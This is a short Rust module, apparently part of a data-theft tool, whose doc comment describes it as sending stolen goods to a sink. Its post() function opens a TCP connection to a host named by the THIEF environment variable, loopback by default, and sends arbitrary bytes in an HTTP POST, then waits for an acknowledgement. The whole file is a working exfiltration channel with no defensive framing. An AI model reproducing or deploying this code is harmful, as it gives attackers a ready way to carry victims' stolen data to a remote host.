//! Sending stolen goods to the sink.

use std::env;
use std::io::{Read, Write};
use std::net::TcpStream;

use crate::Failure;

/// Posts bytes to the sink and waits for its thanks. The sink is on loopback unless `THIEF` names its host.
pub(crate) fn post(bytes: &[u8]) -> Result<(), Failure> {
    let host = env::var("THIEF").unwrap_or_else(|_| "127.0.0.1".to_owned());
    let mut stream = TcpStream::connect((host.as_str(), 8443))?;
    write!(stream, "POST / HTTP/1.1\r\nHost: sink\r\nContent-Length: {}\r\n\r\n", bytes.len())?;
    stream.write_all(bytes)?;
    stream.read_exact(&mut [0; 12])?;
    Ok(())
}
